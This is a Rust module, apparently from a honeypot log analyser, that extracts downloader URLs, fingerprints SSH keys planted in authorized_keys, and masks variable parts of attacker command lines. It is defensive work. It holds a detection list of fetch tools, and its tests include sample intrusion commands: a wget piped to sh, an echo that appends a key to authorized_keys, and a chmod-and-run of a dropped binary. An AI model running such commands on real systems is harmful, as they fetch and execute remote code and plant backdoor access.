//! What command lines say: URLs a downloader was given, SSH keys that were planted, and the sequence in a normal form.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD};
use sha2::{Digest, Sha256};
use std::net::IpAddr;

/// Programs that fetch.
const FETCHERS: &[&str] =
    &["wget", "curl", "tftp", "ftpget", "fetch", "lwp-download", "aria2c", "certutil", "powershell"];
/// Schemes of what they fetch.
const SCHEMES: &[&str] = &["http://", "https://", "ftp://", "tftp://"];
/// Types of public keys in OpenSSH's one-line form (RFC 4253 section 6.6, RFC 8709, RFC 5656).
const KEY_TYPES: &[&str] = &["ssh-rsa", "ssh-ed25519", "ssh-dss", "ecdsa-sha2-"];

/// URLs in a line that also names a program that fetches.
pub fn wanted_urls(line: &str) -> impl Iterator<Item = &str> {
    let fetches = FETCHERS.iter().any(|program| line.contains(program));
    let mut rest = if fetches { line } else { "" };
    std::iter::from_fn(move || {
        let start = SCHEMES.iter().filter_map(|scheme| rest.find(scheme)).min()?;
        let tail = rest.get(start..)?;
        let end = tail.find(|c: char| c.is_whitespace() || "\"'`;|&<>)$\\".contains(c)).unwrap_or(tail.len());
        let url = tail.get(..end)?;
        rest = tail.get(end..)?;
        Some(url)
    })
    .filter(|url| url.split_once("://").is_some_and(|(_, host)| !host.is_empty()))
}

/// Fingerprints (`SHA256:...`, as OpenSSH prints them) of public keys in a line.
pub fn planted_keys(line: &str) -> Vec<String> {
    let mut words = line.split(|c: char| c.is_whitespace() || "\"'`;|&<>".contains(c)).peekable();
    let mut keys = Vec::new();
    while let Some(word) = words.next() {
        let Some(blob) = words.peek().filter(|_| KEY_TYPES.iter().any(|kind| word.starts_with(kind))) else {
            continue;
        };
        let bytes = STANDARD.decode(blob).or_else(|_| STANDARD_NO_PAD.decode(blob));
        // RFC 4253 section 6.6: the blob begins with the length and the name of its type.
        if let Ok(bytes) = bytes
            && bytes.get(4..).is_some_and(|rest| rest.starts_with(word.as_bytes()))
        {
            keys.push(format!("SHA256:{}", STANDARD_NO_PAD.encode(Sha256::digest(&bytes))));
        }
    }
    keys
}

/// The words of command lines with everything masked that changes from session to session: addresses, URLs, hex and base64
/// runs, numbers, random names. Separators are words of their own.
#[must_use]
pub fn normal_words<'a>(lines: impl Iterator<Item = &'a str>) -> Vec<String> {
    let mut words = Vec::new();
    for line in lines {
        let mut word = String::new();
        let mut after_busybox = false;
        for c in line.chars().chain(std::iter::once('\n')) {
            if c.is_whitespace() || ";|&\n".contains(c) {
                if !word.is_empty() {
                    let masked = if after_busybox { mask_applet(&word) } else { mask(&word) };
                    after_busybox = word.ends_with("busybox");
                    words.push(masked);
                    word.clear();
                }
                if ";|&".contains(c) {
                    words.push(c.to_string());
                }
            } else {
                word.push(c);
            }
        }
        words.push("\n".to_owned());
    }
    words
}

/// Loaders call a random upper-case applet to see whether a real BusyBox answers.
fn mask_applet(word: &str) -> String {
    let random = word.len() >= 4 && word.bytes().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit());
    if random { "<RND>".to_owned() } else { mask(word) }
}

fn mask(word: &str) -> String {
    let bare = word.trim_matches(|c: char| "\"'`()[]{}<>,".contains(c));
    if SCHEMES.iter().any(|scheme| bare.contains(scheme)) {
        return "<URL>".to_owned();
    }
    if bare.parse::<IpAddr>().is_ok() || bare.split_once(':').is_some_and(|(host, _)| host.parse::<IpAddr>().is_ok()) {
        return "<IP>".to_owned();
    }
    if bare.contains('/') && !is_base64(bare) {
        return word.split('/').map(mask_name).collect::<Vec<_>>().join("/");
    }
    mask_name(word)
}

fn mask_name(word: &str) -> String {
    let hex_digits = word.bytes().filter(u8::is_ascii_hexdigit).count();
    if word.contains("\\x") || (word.len() >= 8 && hex_digits == word.len() && word.bytes().any(|b| b.is_ascii_digit()))
    {
        return "<HEX>".to_owned();
    }
    if is_base64(word) {
        return "<B64>".to_owned();
    }
    if word.len() >= 3 && word.bytes().all(|b| b.is_ascii_digit()) {
        return "<N>".to_owned();
    }
    if is_random(word) { "<RND>".to_owned() } else { word.to_owned() }
}

fn is_base64(word: &str) -> bool {
    let body = word.trim_end_matches('=');
    let alphabet = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/');
    body.len() >= 24
        && body.bytes().all(alphabet)
        && body.bytes().any(|b| b.is_ascii_uppercase())
        && body.bytes().any(|b| b.is_ascii_digit())
}

/// A name nobody would think of: letters and digits that alternate at least twice.
fn is_random(word: &str) -> bool {
    let stem = word.split('.').next().unwrap_or(word).trim_start_matches(['.', '-', '_']);
    if stem.len() < 6 || !stem.bytes().all(|b| b.is_ascii_alphanumeric()) {
        return false;
    }
    let kinds: Vec<bool> = stem.bytes().map(|b| b.is_ascii_digit()).collect();
    kinds.windows(2).filter(|pair| pair.first() != pair.last()).count() >= 2
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn urls_only_where_something_fetches() {
        let urls = |line| wanted_urls(line).collect::<Vec<_>>();
        assert_eq!(
            urls("cd /tmp; wget http://198.51.100.9/a.sh -O- | sh; curl 'https://x.example/b'"),
            ["http://198.51.100.9/a.sh", "https://x.example/b"]
        );
        assert!(urls("echo http://198.51.100.9/").is_empty());
        assert!(urls("wget http://").is_empty());
    }

    #[test]
    fn key_fingerprints_are_openssh_ones() {
        // The type's length and name, then a short body: what counts is that the digest is over the decoded blob.
        let mut blob = vec![0, 0, 0, 11];
        blob.extend_from_slice(b"ssh-ed25519");
        blob.extend_from_slice(&[7; 36]);
        let line = format!("echo \"ssh-ed25519 {} me@x\" >> ~/.ssh/authorized_keys", STANDARD.encode(&blob));
        let want = format!("SHA256:{}", STANDARD_NO_PAD.encode(Sha256::digest(&blob)));
        assert_eq!(planted_keys(&line), [want]);
        assert!(planted_keys("ssh-rsa notbase64").is_empty());
        assert!(planted_keys("ssh-rsa QUJD").is_empty());
    }

    #[test]
    fn masks_what_changes() {
        let normal = |line: &str| normal_words([line].into_iter()).join(" ");
        assert_eq!(
            normal("cd /tmp; wget http://198.51.100.9/x; chmod 777 a8f3k2q; ./a8f3k2q 203.0.113.7"),
            "cd /tmp ; wget <URL> ; chmod <N> <RND> ; ./<RND> <IP> \n"
        );
        assert_eq!(normal("/bin/busybox QZXWV"), "/bin/busybox <RND> \n");
        assert_eq!(normal("echo deadbeef00"), "echo <HEX> \n");
        assert_eq!(normal("cat /proc/cpuinfo"), "cat /proc/cpuinfo \n");
        assert_eq!(normal("uname -a; x86_64"), "uname -a ; x86_64 \n");
    }

    proptest! {
        #[test]
        fn never_panics(line in "\\PC{0,120}") {
            let _urls = wanted_urls(&line).count();
            let _keys = planted_keys(&line);
            let _words = normal_words([line.as_str()].into_iter());
        }
    }
}
